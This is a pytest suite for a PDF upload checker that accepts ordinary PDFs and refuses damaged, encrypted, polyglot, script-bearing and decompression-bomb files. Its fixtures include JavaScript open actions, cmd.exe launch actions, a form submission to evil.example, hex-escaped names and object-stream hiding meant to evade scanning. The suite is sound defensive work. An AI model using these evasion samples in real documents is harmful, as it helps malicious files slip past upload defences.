import time
import zipfile
import zlib
from io import BytesIO

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from formbuilder.uploads.policy import MEGABYTE
from formbuilder.uploads.refused import UploadRefused

from .samples import deflated_zeros, hiding_pdf, inspected, jpeg, noise, pdf, pdf_writer, raw_pdf, saved, written

CATALOG = b"<< /Type /Catalog /Pages 2 0 R %b >>"
PAGES = b"<< /Type /Pages /Kids [] /Count 0 >>"
SCRIPT_ACTION = DictionaryObject(
    {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
)
SCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"


def refusal(content: bytes) -> UploadRefused:
    with pytest.raises(UploadRefused) as refused:
        inspected(content, "証明書.pdf")
    return refused.value


def opening_action(content: bytes) -> object:
    action = PdfReader(BytesIO(content)).root_object["/OpenAction"].get_object()
    assert isinstance(action, DictionaryObject)
    return action["/S"]


def is_taken(content: bytes) -> bool:
    return inspected(content, "証明書.pdf").content == content


# --- what is taken ---


def test_an_ordinary_pdf_is_taken() -> None:
    assert is_taken(pdf())
    assert is_taken(written(pdf_writer(pages=30)))


def test_a_scan_made_of_pictures_is_taken() -> None:
    assert is_taken(saved(noise(600, 800), "PDF"))


def test_a_pdf_with_links_an_opening_page_and_text_fields_is_taken() -> None:
    writer = pdf_writer(pages=2)
    writer.add_outline_item(title="表紙", page_number=0)
    writer.open_destination = "/Fit"
    writer.add_metadata({"/Title": "所得証明書"})
    assert is_taken(written(writer))
    link = b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] /URI << /Base (https://example.jp/) >> >>"
    assert is_taken(raw_pdf(link, PAGES, b"<< /S /URI /URI (https://example.jp/) >>"))


def test_a_pdf_with_object_streams_and_a_compressed_table_is_taken() -> None:
    content = hiding_pdf(b"<< /S /GoTo /D [2 0 R /Fit] >>")
    assert opening_action(content) == "/GoTo"
    assert is_taken(content)
    assert is_taken(content + b"\r\n\x00\x00\n")


def test_words_that_only_look_like_dangerous_names_are_taken() -> None:
    names = b"<< /LaunchDate (x) /EF2 1 /JavaScripts 2 /EncryptMetadata true /#4aavaScript2 3 >>"
    text = b"<< /Title (JavaScript, Launch and EmbeddedFile) >>"
    assert is_taken(raw_pdf(CATALOG % b"", PAGES, names, text))


def test_an_update_appended_to_a_pdf_is_taken() -> None:
    first = pdf()
    writer = PdfWriter(BytesIO(first), incremental=True)
    writer.add_metadata({"/Title": "追記"})
    updated = written(writer)
    assert updated.startswith(first[:100])
    assert updated.count(b"%%EOF") == 2
    assert is_taken(updated)


# --- damaged, locked, mixed ---


@pytest.mark.parametrize(
    "content",
    [
        pdf()[:-30],
        pdf()[: len(pdf()) // 2],
        b"%PDF-1.4\n" + bytes(500),
        b"%PDF-1.4\n%%EOF\n",
        b"%PDF-1.4\nstartxref\n0\n%%EOF\n",
        b"%PDF-1.4\n/Root startxref\n999999\n%%EOF\n",
        b"%PDF-9.9\n" + pdf()[9:],
        pdf() + b"<html><script>alert(1)</script></html>",
        pdf() + bytes(5000),
    ],
)
def test_a_damaged_pdf_is_refused(content: bytes) -> None:
    assert refusal(content).code == "broken"


@pytest.mark.parametrize("algorithm", ["RC4-40", "RC4-128", "AES-128", "AES-256"])
@pytest.mark.parametrize("password", ["secret", ""], ids=["to open", "to print only"])
def test_a_locked_pdf_is_refused(algorithm: str, password: str) -> None:
    writer = pdf_writer()
    writer.encrypt(password, "owner", algorithm=algorithm)
    refused = refusal(written(writer))
    assert refused.code == "encrypted"
    assert "パスワードまたは編集や印刷の制限がかかっています。制限を外したPDFを選んでください。" in refused.message


def test_a_pdf_that_is_also_a_zip_is_refused() -> None:
    archive = BytesIO()
    with zipfile.ZipFile(archive, "w") as package:
        package.writestr("payload.html", "<script>alert(1)</script>")
        package.comment = b"\nstartxref\n10\n%%EOF\n"
    content = pdf() + archive.getvalue()
    assert zipfile.is_zipfile(BytesIO(content))
    assert refusal(content).code == "mixed"


# --- active content in the open ---


def test_a_script_that_runs_on_opening_is_refused_with_the_way_out() -> None:
    writer = pdf_writer()
    writer.root_object[NameObject("/OpenAction")] = SCRIPT_ACTION
    refused = refusal(written(writer))
    assert refused.code == "active"
    assert refused.message == (
        "このPDFには、プログラムや別のファイルが含まれています。"
        "PDFを開いて「印刷」から「PDFとして保存」で作り直したものを選んでください。"
    )


def test_a_script_on_a_page_is_refused() -> None:
    writer = pdf_writer()
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): SCRIPT_ACTION})
    assert refusal(written(writer)).code == "active"


def test_a_file_in_the_pdf_is_refused() -> None:
    writer = pdf_writer()
    writer.add_attachment("evil.exe", b"MZ")
    assert refusal(written(writer)).code == "active"


def test_a_program_started_from_a_pdf_is_refused() -> None:
    writer = pdf_writer()
    launch = DictionaryObject({NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")})
    writer.pages[0][NameObject("/Annots")] = ArrayObject(
        [DictionaryObject({NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): launch})]
    )
    assert refusal(written(writer)).code == "active"


@pytest.mark.parametrize(
    "action",
    [
        SCRIPT,
        b"<< /S /Java#53cript /JS (app.alert(1)) >>",
        b"<< /S /#4a#61#76#61#53#63#72#69#70#74 /JS (app.alert(1)) >>",
        b"<< /S/JavaScript/JS 9 0 R>>",
        b"<< /S /Rendition /OP 0 /JS (app.alert(1)) >>",
        b"<< /S /Launch /Win << /F (cmd.exe) >> >>",
        b"<< /S /L#61unch /F (cmd.exe) >>",
        b"<< /S /SubmitForm /F (https://evil.example/) >>",
        b"<< /S /ImportData /F (secret.fdf) >>",
        b"<< /S /GoToR /F (\\\\\\\\evil\\\\share) /D [0 /Fit] >>",
        b"<< /S /GoToE /T << /R /C >> >>",
        b"<< /Subtype /RichMedia >>",
        b"<< /XFA [(template) 9 0 R] >>",
        b"<< /Subtype /FileAttachment /FS 9 0 R >>",
        b"<< /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >>",
        b"<< /Type /Filespec /F (a.exe) /EF\n9 0 R >>",
        b"<< /Type /Filespec /F (a.exe)/EF%\n9 0 R >>",
        b"<< /Type /Filespec /F (a.exe) /EF 9%\n0 R >>",
        b"<< /Type /Filespec /F (a.exe) /#45#46<</F 9 0 R>> >>",
        b"<< /Names << /EmbeddedFiles 9 0 R >> >>",
    ],
)
def test_each_way_to_do_more_than_show_pages_is_refused(action: bytes) -> None:
    assert refusal(raw_pdf(CATALOG % b"/OpenAction 3 0 R", PAGES, action)).code == "active"
    assert refusal(hiding_pdf(action)).code == "active"


# --- active content out of sight ---


def test_a_script_in_an_object_stream_is_found_where_a_reader_finds_it() -> None:
    content = hiding_pdf(SCRIPT)
    assert b"JavaScript" not in content
    assert opening_action(content) == "/JavaScript"
    assert refusal(content).code == "active"


@pytest.mark.parametrize(
    ("entries", "gap"),
    [
        (b"", b"\n"),
        (b"/Type /Obj#53tm", b""),
        (b"/Type/ObjStm/Extends 9 0 R", b" % no << comment\n"),
        (b"/Type /ObjStm % >> stream\n", b"\r\n"),
        (b"/Type /ObjStm /Filter [/FlateDecode]", b"\n"),
        (b"/Type /ObjStm /Filter [/Fl#61teDecode]", b"\n"),
    ],
)
def test_a_disguised_object_stream_is_still_searched(entries: bytes, gap: bytes) -> None:
    assert refusal(hiding_pdf(SCRIPT, entries=entries, gap=gap)).code == "active"
    assert is_taken(hiding_pdf(b"<< /S /GoTo >>", entries=entries, gap=gap))


@pytest.mark.parametrize(
    "entries",
    [
        b"/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]",
        b"/Type /ObjStm /Filter [/FlateDecode /FlateDecode]",
        b"/Type /ObjStm /Filter /LZWDecode",
        b"/Type /ObjStm /Filter 9 0 R",
        b"/Type /ObjStm /Filter [/FlateDecode /FlateDecode] /Filter 9 0 R",
        b"/Type /ObjStm /DecodeParms << /Predictor 12 /Columns 1 >>",
        b"/Type /ObjStm /F (other.bin)",
        b"/Type /ObjStm /X (\nendobj\n9 0 obj << )",
        b"/Filter /LZWDecode",
    ],
)
def test_an_object_stream_that_cannot_be_searched_is_refused(entries: bytes) -> None:
    assert refusal(hiding_pdf(SCRIPT, entries=entries)).code == "unsearchable"


def test_a_script_behind_strings_that_hold_brackets_is_found() -> None:
    tricky = rb"/Type /ObjStm /N#61me null /X (\) \( ((>>)) stream\\) /Y <3e3e>"
    assert refusal(hiding_pdf(SCRIPT, entries=tricky)).code == "unsearchable"
    info = rb"<< /Title (\) \( ((>>)) stream\\) /Y <3e3e> /Z [<</A (<<)>>] >>"
    assert is_taken(raw_pdf(CATALOG % b"", PAGES, info))


@pytest.mark.parametrize("packed", [b"not zlib", zlib.compress(b"5 0 " + SCRIPT)[:20], b""])
def test_a_damaged_object_stream_is_refused(packed: bytes) -> None:
    assert refusal(hiding_pdf(b"", packed=packed)).code == "broken"


@pytest.mark.parametrize("open_end", [b"<< /A (never closed", b"<< /A <", b"<< /A [ ", b"<< /A ) >>", b"<<" * 50])
def test_a_dictionary_without_end_is_refused(open_end: bytes) -> None:
    assert refusal(raw_pdf(CATALOG % b"", PAGES, open_end)).code == "broken"


# --- bombs ---


def promptly(content: bytes) -> str:
    """The code of the refusal, or "", within three seconds of processor time."""
    started = time.process_time()
    try:
        inspected(content, "証明書.pdf")
        code = ""
    except UploadRefused as refused:
        code = refused.code
    assert time.process_time() - started < 3
    return code


def test_an_object_stream_that_unpacks_without_end_is_refused() -> None:
    bomb = deflated_zeros(4000)
    assert len(bomb) < 5 * MEGABYTE
    assert promptly(hiding_pdf(b"", packed=bomb)) == "unsearchable"


def test_an_object_stream_that_yields_nothing_without_end_is_refused() -> None:
    empty_blocks = b"\x78\x9c" + b"\x00\x00\x00\xff\xff" * 500_000
    assert promptly(hiding_pdf(b"", packed=empty_blocks)) in {"broken", "unsearchable"}


@pytest.mark.parametrize(
    "filling",
    [
        b"1 0 obj<<",
        b"1 0 obj<</A(",
        b"1 0 obj%",
        b"1 0 obj ",
        b"1 0 obj<</First 1>>stream\n",
        b"1 0 obj<</First 1/Filter/FlateDecode>>stream\n" + b"\x78\x9c" + b"\x00\x00\x00\xff\xff" * 20,
        b"<<",
        b"((",
        b"/EF ",
        b"/J#61",
        b"startxref 1 %%EOF ",
        b"% \r",
    ],
)
def test_two_megabytes_of_one_trick_end_promptly(filling: bytes) -> None:
    repeated = filling * (2 * MEGABYTE // len(filling))
    promptly(raw_pdf(CATALOG % b"", PAGES, repeated))
    promptly(raw_pdf(CATALOG % b"", PAGES, b"<< " + repeated + b" >>"))


def test_a_dictionary_of_a_million_pieces_is_refused() -> None:
    assert promptly(raw_pdf(CATALOG % b"", PAGES, b"<< " + b"<<>>" * 600_000 + b" >>")) == "unsearchable"


def test_a_book_of_a_hundred_thousand_objects_is_taken_promptly() -> None:
    several = b"<< /Type /Annot /Rect [1 2 3 4] /P 2 0 R /F 4 /Border [0 0 0] >>\nendobj\n9 0 obj\n" * 100_000
    assert promptly(raw_pdf(CATALOG % b"", PAGES, several + b"null")) == ""


def test_a_large_scan_is_taken_promptly() -> None:
    picture = jpeg(noise(1500, 2000))
    stream = b"<< /Subtype /Image /Filter /DCTDecode /Length %d >>\nstream\n%b\nendstream" % (len(picture), picture)
    content = raw_pdf(CATALOG % b"", PAGES, *[stream] * (9 * MEGABYTE // len(stream)))
    assert len(content) > 5 * MEGABYTE
    assert promptly(content) == ""
